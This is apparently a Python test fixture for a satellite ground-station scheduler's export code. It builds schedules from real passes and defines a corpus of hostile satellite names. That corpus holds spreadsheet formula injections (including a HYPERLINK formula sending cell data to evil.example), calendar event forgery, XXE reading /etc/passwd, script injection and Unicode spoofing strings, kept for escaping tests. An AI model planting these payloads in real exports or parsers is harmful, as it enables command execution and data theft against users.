"""Small schedules over a real station with real element sets, and names that mean harm."""

from __future__ import annotations

from datetime import UTC, datetime

from app.exports.base import Schedule, ScheduleEntry
from app.settings import Settings, load_configuration
from scheduler.intervals import Span
from scheduler.prediction.passes import TrackedObject
from scheduler.prediction.search import find_passes
from tle.starter import load_starter
from tle.timebase import to_unix_s

NOW_UTC = datetime(2026, 9, 6, 12, tzinfo=UTC)
CONFIGURATION = load_configuration(Settings())
KAZNU = next(station for station in CONFIGURATION.stations if station.id == "kaznu")

_PAYLOADS = (
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "'=1+1",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "a\r\nATTENDEE:mailto:x@evil.example",
    "a\nEND:VEVENT\nBEGIN:VEVENT\nUID:forged",
    "a\rDTSTART:19700101T000000Z",
    "a\x0bSTATUS:CANCELLED",
    "a\u2028X-FORGED:1",
    "a\u2029X-FORGED:1",
    "a\x85X-FORGED:1",
    "a;VALUE=DATE:1",
    "back\\nslash,comma;semicolon:colon",
    "<script>alert(1)</script>",
    '"/><scheduledPackage user="forged"/>',
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "&lt;&#x0;&#xD800;",
    "<!DOCTYPE a [<!ENTITY b 'c'>]>",
    'a","entry_id":"forged',
    'a"}],"forged":[{"',
    '1,2,"3"\n4,5,6',
    "a\x00b",
    "a\x1b[31mred",
    "\u202egnp.exe",
    "\u2066isolate\u2069",
    "\ufeffbom",
    "a\ud800b",
    "\uffff",
    "META_STOP",
    "a\nMETA_STOP\n2026-09-06T12:00:00 1 2 3 4 5 6",
    "1 25544U 98067A   26249.50000000  .00000000  00000-0  00000-0 0    07",
    "a\n1 25544U",
    "%0d%0aX-Forged: 1",
    "{{7*7}}${7*7}",
)
_FRAMES = ("{}", "KazEOSat {}", "{} 2", "Қазақстан {} 卫星", "  {}  ")
HOSTILE_NAMES = tuple(frame.format(payload) for frame in _FRAMES for payload in _PAYLOADS)


def make_objects(numbers=(39731, 40010)):
    """Real element sets by the id of their satellite."""
    served = {s.norad_cat_id: s for s in CONFIGURATION.satellites}
    return {
        served[e.norad_cat_id].id: TrackedObject(served[e.norad_cat_id].id, e.name, e)
        for e in load_starter()
        if e.norad_cat_id in numbers
    }


def make_entries(objects, *, days=1.0, **changes):
    """Turn the real passes of some days into entries, setup and teardown around them."""
    start = to_unix_s(NOW_UTC)
    span = Span(NOW_UTC, datetime.fromtimestamp(start + days * 86_400, UTC))
    table = find_passes(list(objects.values()), KAZNU, span, min_elevation_deg=5.0)
    entries = []
    for found in sorted(
        (table.read(row) for row in range(len(table))), key=lambda each: each.aos_unix_s
    ):
        fields = {
            "entry_id": f"contact-{found.pass_id}",
            "kind": "contact",
            "state": "reserved",
            "station_id": "kaznu",
            "antenna_id": "antenna-1",
            "owner": "kaznu",
            "reserved_start_unix_s": found.aos_unix_s - 120.0,
            "start_unix_s": found.aos_unix_s,
            "end_unix_s": found.los_unix_s,
            "reserved_end_unix_s": found.los_unix_s + 60.0,
            "satellite_id": found.satellite_id,
            "satellite_name": found.name,
            "norad_cat_id": found.norad_cat_id,
            "service": "payload-x-band",
            "aos_unix_s": found.aos_unix_s,
            "los_unix_s": found.los_unix_s,
            "max_elevation_deg": found.max_elevation_deg,
            "element_set_id": found.elements.element_set_id,
        }
        entries.append(ScheduleEntry(**(fields | changes)))
    return entries


def make_schedule(entries, objects, **changes):
    """Lay entries out as a schedule that can be walked again and again."""
    start = to_unix_s(NOW_UTC)
    fields = {
        "schedule_id": "plan-1",
        "title": "Test",
        "is_booked": True,
        "generated_utc": NOW_UTC,
        "start_unix_s": start,
        "end_unix_s": start + 7 * 86_400,
        "open_entries": lambda: iter(entries),
        "stations": {"kaznu": KAZNU},
        "satellites": {satellite.id: satellite for satellite in CONFIGURATION.satellites},
        "find_object": lambda entry: objects.get(entry.satellite_id),
        "step_s": 30.0,
    }
    return Schedule(**(fields | changes))
